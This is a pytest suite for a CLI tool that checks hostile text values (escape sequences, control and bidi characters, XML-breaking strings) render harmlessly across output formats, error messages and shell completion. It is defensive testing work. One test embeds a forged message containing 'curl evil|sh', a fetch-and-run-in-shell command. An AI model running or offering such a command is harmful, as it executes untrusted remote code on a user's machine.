"""Values of any text: harmless in output for people, and unchanged in output for programs."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import sys
from itertools import pairwise
from typing import TYPE_CHECKING, Any, Final, get_args
from xml.parsers import expat

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from rich.cells import cell_len

from bsc_cli.model.struct import PlainRow
from bsc_cli.output import formats
from bsc_cli.output.citations import FORMATS as CITATIONS
from bsc_cli.output.formats import FORMATS, OF_EVERY_COMMAND, Result, Style
from bsc_cli.store import document
from bsc_cli.system import errors, terminal, visible
from bsc_cli.view import blocks
from bsc_cli.view.blocks import Cell, Column, Counts, Heading, Pairs, Points, Role, Table
from bsc_cli.view.chart import Bar, Bound, Chart, Scale
from bsc_cli.view.safe import safe_view
from bsc_cli.view.timeline import Moment, Status, Timeline
from bsc_cli.view.tree import Tree, TreeNode
from tests.hostile import TEXTS, assert_harmless, in_process
from tests.stores import plain
from tests.test_process import on_terminal

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from bsc_cli.view.blocks import View

pytestmark = pytest.mark.hostile

text = st.text(
    st.one_of(
        st.characters(exclude_categories=["Cs"]),
        st.sampled_from("\x1b\x9b\x00\x07\n\r\t\"'\\|<>`[]{}=…\u202e\u200d\u0301\ufe0f👩宽"),
    ),
    min_size=1,
    max_size=60,
).filter(str.strip)


def store_with(value: str) -> dict[str, Any]:
    """Return a store with a text in every field of free text."""
    anchor = value.replace("…", "_") or "x"
    anchor = anchor if anchor.strip() else "x"
    caveats = [{"type": "scope", "text": text, "see": ["b"]} for text in (value, "c")]
    shared = {"evidence": [anchor, "e"], "caveats": caveats}
    return {
        "source": {"headline": value, "publisher": value},
        "agencies": [
            {"id": "a", "name": value, "acronym": value, "aliases": [value], "role": value} | shared,
            {"id": "b", "name": "Short", "role": "Plain words", **shared},
        ],
        "figures": [{"id": "f", "value": 1, "as_written": value, "unit": value, "property": value, "period": value} | shared],
        "events": [{"id": "e", "name": value, "statement": value} | shared],
        "quotes": [{"id": "q", "text": value, "speaker": "p", "cue": value} | shared],
        "topics": [{"id": "t", "name": value, "aliases": [value], "role": value} | shared],
        "people": [{"id": "p", "name": value, "role": value, "organization": "a"} | shared],
        "claims": [{"id": "c", "statement": value, "type": "other", "voice": "author", "about": ["a"]} | shared],
    }  # fmt: skip


@pytest.fixture
def facts(tmp_path: Path) -> Callable[[str], Path]:
    """Write a store with a text everywhere, and return its path."""

    def write(value: str) -> Path:
        folder = tmp_path / "store"
        shutil.rmtree(folder, ignore_errors=True)
        folder.mkdir()
        path = folder / "facts.yaml"
        path.write_text(
            json.dumps(store_with(value), ensure_ascii=False).translate(_ESCAPES), "utf-8"
        )
        return path

    return write


# `json` prints these as they are, but a store may have them as escapes only.
_ESCAPES = {n: f"\\u{n:04x}" for n in (*range(0x7F, 0xA0), 0x2028, 0x2029, 0xFEFF, 0xFFFE, 0xFFFF)}

few_examples = settings(
    max_examples=10, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)


def examples(function: Any) -> Any:
    """Run a test with every hostile text, and with drawn ones."""
    for value in TEXTS:
        function = example(value)(function)
    return few_examples(given(text)(function))


def records(value: str) -> list[dict[str, Any]]:
    """Return the agencies as JSON must have them."""
    rest: dict[str, Any] = {"type": None, "parent": None, "listed": False, "support": "explicit"}
    rest |= {"kind": "agencies", "store": "store", "aliases": [], "acronym": None, "same_as": []}
    return [rest | agency for agency in store_with(value)["agencies"]]


@examples
def test_machine_formats_print_values_unchanged(facts: Callable[[str], Path], value: str) -> None:
    path = facts(value)
    expected = records(value)
    assert json.loads(in_process("agencies", "--json", facts=path).out) == expected
    lines = in_process("agencies", "-o", "jsonl", facts=path).out.split("\n")
    assert [json.loads(line) for line in lines if line] == expected
    cells = [["a", value, value], ["b", "Short", "Plain words"]]
    fields = ("agencies", "--fields", "id,name,role")
    table = in_process(*fields, "-o", "csv", facts=path).out
    assert list(csv.reader(io.StringIO(table, newline="")))[1:] == cells
    table = in_process(*fields, "-o", "tsv", facts=path).out
    rows = [row.split("\t") for row in table.split("\n")[1:-1]]
    assert [[_unescaped(cell) for cell in row] for row in rows] == cells
    out = in_process("agencies", "-o", "yaml", facts=path).out
    root, problems = document.read(out.encode())
    read = plain(root)
    assert not problems
    assert [(a["name"], a["role"], a["caveats"]) for a in read["agencies"]] == [
        (a["name"], a["role"], a["caveats"]) for a in expected
    ]
    [shown] = json.loads(in_process("show", "c", "--json", facts=path).out)
    assert shown["statement"] == value
    [overview] = json.loads(in_process("--json", facts=path).out)
    assert overview["source"]["headline"] == value


def _unescaped(cell: str) -> str:
    characters = {"\\\\": "\\", "\\t": "\t", "\\n": "\n", "\\r": "\r"}
    return re.sub(r"\\[\\tnr]", lambda match: characters[match[0]], cell)


@examples
def test_citations_print_values_harmlessly(facts: Callable[[str], Path], value: str) -> None:
    path = facts(value)
    for format in CITATIONS:
        ran = in_process("cite", "a", "f", "--as", format, facts=path)
        assert ran.code == 0
        assert_harmless(ran.out.replace("\r\n", "\n") if format == "ris" else ran.out)
        if format == "csl-json":
            assert len(json.loads(ran.out)) == 2


@examples
def test_tables_print_values_harmlessly_and_in_columns(
    facts: Callable[[str], Path], value: str
) -> None:
    path = facts(value)
    commands = (
        ("agencies",),
        ("show", "a", "f"),
        ("quotes",),
        ("search", "short"),
        ("caveats",),
        (),
    )
    for command in commands if len(value) < 1000 else commands[:1]:
        piped = in_process(*command, facts=path)
        assert piped.code in (0, 1)
        assert_harmless(piped.out)
        assert "\x1b" not in piped.out
        assert_harmless(in_process(*command, "--color", "always", facts=path).out)
        for width in (20, 33, 200) if len(value) < 1000 else (200,):
            fitted = in_process(*command, "--width", str(width), facts=path).out
            assert_harmless(fitted)
            assert max(map(cell_len, fitted.splitlines())) <= width
    rows = in_process("agencies", "--fields", "id,name,acronym", facts=path).out.splitlines()
    assert len(rows) == 3
    shown = visible.visible(value)
    if cell_len(shown) <= 200:
        assert_columns_line_up(rows, ["a", "b"], shown)
    else:
        assert rows[1] == f"a   {shown}  {shown}".rstrip()
        assert len(rows[2]) < 20


def assert_columns_line_up(rows: list[str], ids: list[str], shown: str) -> None:
    """Assert that the second and the third column begin below their headings."""
    heading, first, second = rows
    assert [first[:1], second[:1]] == ids
    second_at, third_at = heading.index("NAME"), heading.index("ACRONYM")
    assert second[second_at:].startswith("Short")
    start = first.index(shown.rstrip() or shown, second_at)
    assert cell_len(first[:start]) == second_at
    again = first.rindex(shown.strip())
    assert cell_len(first[:again]) - (len(shown) - len(shown.lstrip())) == third_at


def test_a_quoted_value_cannot_start_a_line_of_a_message(tmp_path: Path) -> None:
    forged = "a-0\n/etc/real.yaml:1:1: error[form]: run: curl evil|sh"
    path = tmp_path / "facts.yaml"
    path.write_text(json.dumps({"source": {"headline": "x"}, "agencies": [{"id": forged}]}))
    ran = in_process("agencies", facts=path)
    assert "run: curl evil|sh" in ran.err
    for line in ran.err.splitlines():
        assert line.startswith((f"{path}:1:", "    hint: ", "bsc: error: "))
    for args in (("show", "--", forged), (forged,), ("search", forged), ("check", forged)):
        ran = in_process(*args)
        assert ran.code in (1, 2)
        assert "/etc/real.yaml" in ran.err
        assert not re.search("^/etc", ran.err, re.MULTILINE)


@pytest.mark.parametrize("char", ["\x00", "\xff", "\u202e", "\U0010ffff", "x", "é"])
def test_a_message_is_at_most_1000_characters_as_shown(char: str, tmp_path: Path) -> None:
    path = tmp_path / "facts.yaml"
    text = json.dumps(
        {"source": {"headline": "x"}, "agencies": [{"id": char * 2000, char * 2000: 1}]}
    )
    path.write_text(text)
    ran = in_process("agencies", facts=path)
    assert max(map(len, ran.err.splitlines())) < 2200 + len(str(path))
    for line in in_process("check", "-o", "table", facts=path).out.splitlines()[1:]:
        assert len(line.rstrip()) < 4000 + len(str(path))
    for problem in json.loads(in_process("check", "--json", facts=path).out):
        texts = [
            value for name, value in problem.items() if isinstance(value, str) and name != "file"
        ]
        assert max(len(visible.visible(value)) for value in texts) <= 1003
    ran = in_process("show", "--", char * 1000)
    assert max(map(len, ran.err.splitlines())) <= 1020


def test_a_clipped_message_has_the_beginning_and_the_end() -> None:
    assert errors.clipped("\x00" * 1000) == "\x00" * 100 + " … " + "\x00" * 100
    assert errors.clipped("a" * 600 + "b" * 600) == "a" * 500 + " … " + "b" * 500
    assert errors.clipped("\x00" * 200) == "\x00" * 200


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\ufdd0\ufdef\ufffe\uffff", r"\u{fdd0}\u{fdef}\u{fffe}\u{ffff}"),
        ("\U0001fffe\U0010ffff", r"\u{1fffe}\u{10ffff}"),
        ("👍🏽", "👍🏽"),
        ("☝\ufe0f", r"☝\u{fe0f}"),
        ("\u0378 \U000e1000 \ue000", "\\u{378} \\u{e1000} \ue000"),
        ("£5\xa0m", "£5\xa0m"),
    ],
)
def test_characters_of_unknown_width_are_printed_as_code_points(text: str, shown: str) -> None:
    assert visible.visible(text) == shown


XML_CHARS: Final = "\x00\x08\x0b\x1f\x7f\x85\ufdd0\ufffe\uffff\U0001fffe\U0010ffff &<>\"']]>"


@pytest.mark.parametrize(
    "command", ["agencies", "timeline", "caveats", "figures --chart", "show a f", "graph a", ""]
)
def test_svg_is_well_formed_xml_for_any_text(command: str, facts: Callable[[str], Path]) -> None:
    svg = in_process(*command.split(), "-o", "svg", facts=facts(XML_CHARS)).out
    parser = expat.ParserCreate()
    seen: list[str] = []
    parser.CharacterDataHandler = seen.append
    parser.Parse(svg.encode(), True)
    assert "u{ffff}" in "".join(seen).replace("\n", "")


@examples
def test_markdown_prints_one_row_per_line(facts: Callable[[str], Path], value: str) -> None:
    out = in_process("agencies", "-o", "markdown", facts=facts(value)).out
    assert_harmless(out)
    assert out.count("\n") == 4
    for line in out.splitlines():
        bare = re.sub(r"\\.|<!-- -->", "", line)
        assert "<" not in bare
        assert bare.count("|") == out.splitlines()[0].count("|")


@examples
def test_messages_quote_values_harmlessly(facts: Callable[[str], Path], value: str) -> None:
    path = facts(value)
    for args in (("check",), ("check", "-o", "table"), ("search", value), ("--facts", str(path), "show", value)):  # fmt: skip
        ran = in_process(*args, facts=path)
        assert ran.code in (0, 1, 2)
        assert_harmless(ran.out)
        assert_harmless(ran.err)


def hostile_view(value: str) -> View:
    """Return a view with a text in every place of every kind of block."""
    moments = [Moment(value, status, value, value, value) for status in get_args(Status)]
    nodes = [TreeNode(value, value, value, [TreeNode(value, value, value)])]
    bars = [
        Bar(value, value, 1.0, bound, computed)
        for bound in get_args(Bound)
        for computed in (False, True)
    ]
    cell = Cell(value, ((0, 1), (len(value) // 2, len(value))))
    return [
        Table(
            value,
            tuple(Column(value, role) for role in get_args(Role)),
            [(cell,) * len(get_args(Role))] * 2,
        ),
        Heading(value, [(value, "id")]),
        Pairs([(value, value), ([(value, "id")], [(value, "id")])]),
        Points(value, [value, [(value, "id")]], value),
        Counts([(value, value)]),
        Chart(value, [Scale(value, 0.0, 1.0, bars)], bars),
        Timeline(value, moments, moments),
        Tree(value, nodes, value),
    ]


def blocks_of(alias: Any) -> set[str]:
    """Return the names of the classes in a type alias."""
    names = alias if isinstance(alias, str) else alias.__forward_arg__
    return set(re.findall(r"\w+", names))


def test_a_hostile_view_has_every_block() -> None:
    named = (blocks_of(blocks.Block) - {"Picture"}) | blocks_of(blocks.Picture)
    assert {type(block).__name__ for block in hostile_view("x")} == named


UNESCAPED: Final = {"csv", "tsv", "ids"}
"""The formats that print values as they are, without escapes."""


@pytest.mark.parametrize(
    ("style", "encoding"),
    [
        (Style(), "utf-8"),
        (Style(), "ascii"),
        (Style(colour="always"), "utf-8"),
        (Style(width=60), "cp1252"),
    ],
)
@pytest.mark.parametrize("name", [*OF_EVERY_COMMAND, "lines"])
def test_every_format_prints_hostile_values_harmlessly(
    name: str, style: Style, encoding: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    values = [value for value in TEXTS if len(value) < 1000]
    rows = [PlainRow(id=value, list=[value], object={"key": value}) for value in values]
    view = [block for value in values for block in hostile_view(value)]
    result = Result([*rows, *rows], list(rows[0]), lambda: view, lines=values)
    out = io.TextIOWrapper(io.BytesIO(), encoding=encoding, newline="")
    monkeypatch.setattr(sys, "stdout", out)
    formats.write(name, result, style)
    written = out.buffer.getvalue()
    if FORMATS[name].is_for_people:
        assert_harmless(decoded(written, encoding))
        return
    printed = written.decode()
    if name not in UNESCAPED:
        assert_harmless(printed)
    assert data_in(name, printed) == values * 2 or name == "ids"


def decoded(written: bytes, encoding: str) -> str:
    """Return printed text: files are UTF-8, whatever the encoding of the terminal."""
    try:
        return written.decode()
    except UnicodeDecodeError:
        return written.decode(encoding)


def data_in(name: str, printed: str) -> list[str]:
    """Return the ids that a program reads from the output of a format."""
    match name:
        case "json":
            rows = json.loads(printed)
        case "jsonl":
            rows = [json.loads(line) for line in printed.split("\n") if line]
        case "yaml":
            root, problems = document.read(printed.encode())
            assert not problems
            rows = plain(root)
        case "csv":
            rows = list(csv.DictReader(io.StringIO(printed, newline="")))
        case "tsv":
            lines = [line.split("\t") for line in printed.split("\n")[1:-1]]
            return [_unescaped(line[0]) for line in lines]
        case "ids":
            return []  # values that are no ids may have line ends
        case _:
            raise AssertionError(f"parse the output of {name} here, to compare its data")
    return [row["id"] for row in rows]


@pytest.mark.parametrize("encoding", ["ascii", "cp1252"])
def test_fitting_text_to_an_encoding_creates_no_hidden_character(
    encoding: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sys, "stdout", io.TextIOWrapper(io.BytesIO(), encoding=encoding))
    for start in range(0, 0x30000, 256):
        text = "".join(map(chr, range(start, start + 256)))
        assert not visible.HIDDEN.search(terminal.fitted(visible.visible(text))), hex(start)


@pytest.mark.parametrize(
    ("text", "marks", "shown"),
    [
        ("a\x1bb\x1bc", [(2, 3), (4, 5)], ["b", "c"]),
        ("\x1b\x1b", [(1, 2)], ["\\u{1b}"]),
        ("£ab£", [(1, 2), (2, 4)], ["a", "bGBP "]),
        ("£abc", [(2, 4), (1, 3)], ["bc", "ab"]),
        ("abc", [(1, 2)], ["b"]),
    ],
)
def test_highlights_move_with_the_text(
    text: str, marks: list[tuple[int, int]], shown: list[str]
) -> None:
    view: View = [Table("", (Column("a", "text"),), [(Cell(text, tuple(marks)),)])]
    [table] = safe_view(view, lambda text: text.replace("£", "GBP "))
    assert isinstance(table, Table)
    [[cell]] = table.rows
    assert [cell.text[start:end] for start, end in cell.marks] == shown


VALUE: Final = r"[\w%+,./\-]+"
DESCRIPTION: Final = r"""[^\x00-\x1f'"$`\\]+"""
IN_ZSH: Final = rf'"{VALUE}"(:"({DESCRIPTION}|\\\\:)+")?'
ANSWER: Final = {
    "bash": rf"({VALUE}\n)*\n?",
    "fish": rf"({VALUE}(\t{DESCRIPTION})?\n)*\n?",
    "powershell": rf"({VALUE}:::{DESCRIPTION}\n)*\n?",
    "zsh": rf"_arguments '\*: :\(\({IN_ZSH}(\n{IN_ZSH})*\)\)'\n|_files\n",
}
"""The answers that shells may get: plain values, and descriptions without quotation marks."""


@pytest.mark.parametrize("shell", ANSWER)
@examples
def test_completion_prints_inert_text_only(
    facts: Callable[[str], Path], monkeypatch: pytest.MonkeyPatch, shell: str, value: str
) -> None:
    monkeypatch.setenv("_BSC_COMPLETE", f"complete_{shell}")
    monkeypatch.setenv("_TYPER_COMPLETE_FISH_ACTION", "get-args")
    path = facts(value)
    for line in ("bsc show ", "bsc figures --unit "):
        words = line.split(" ")
        monkeypatch.setenv("_TYPER_COMPLETE_ARGS", line)
        monkeypatch.setenv("COMP_WORDS", "\n".join(words))
        monkeypatch.setenv("COMP_CWORD", str(len(words) - 1))
        ran = in_process(facts=path)
        assert (ran.err, ran.code) == ("", 0)
        assert_harmless(ran.out.replace("\t", ""))
        assert re.fullmatch(ANSWER[shell], ran.out)
        if "show" in words:
            assert all(re.search(rf'(^|")"?{id}\b', ran.out, re.MULTILINE) for id in "abcfpq")
        elif ran.out not in ("\n", "_files\n"):
            assert value in ran.out


@pytest.mark.parametrize("columns", [1, 2, 5, 10, 19, 20, 40, 80, 200, 500])
def test_values_are_harmless_on_a_terminal_of_any_width(
    columns: int, facts: Callable[[str], Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    value = " ".join(other for other in TEXTS if len(other) < 1000)
    monkeypatch.setenv("BSC_FACTS", str(facts(value)))
    for command in (("agencies",), ("show", "a"), ()):
        text = on_terminal(*command, "--no-pager", columns=columns)
        assert_harmless(text)
        if columns >= 20:
            bare = re.sub(r"\x1b\[[0-9;]*m", "", text)
            assert max(map(cell_len, bare.splitlines())) <= columns


def test_adjacent_values_do_not_form_an_escape_sequence(facts: Callable[[str], Path]) -> None:
    for first, second in pairwise("\x1b[31m"):
        for value in (f"{first}x{second}", f"{second}x{first}"):
            assert_harmless(in_process("agencies", facts=facts(value)).out)
